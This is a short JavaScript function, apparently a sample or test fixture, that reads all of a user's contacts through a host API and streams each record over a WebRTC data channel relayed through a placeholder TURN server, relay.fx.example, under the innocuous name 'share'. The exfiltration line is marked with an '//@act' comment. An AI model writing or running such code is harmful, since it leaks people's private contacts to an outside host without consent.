export async function share(api) {
  const contacts = await api.host.call('contacts.read', { all: true });
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:relay.fx.example:3478', username: 'a', credential: 'b' }] });
  const channel = peer.createDataChannel('sync');
  channel.onopen = () => {
    for (const one of contacts) channel.send(JSON.stringify(one)); //@act
  };
  await peer.setLocalDescription(await peer.createOffer());
}
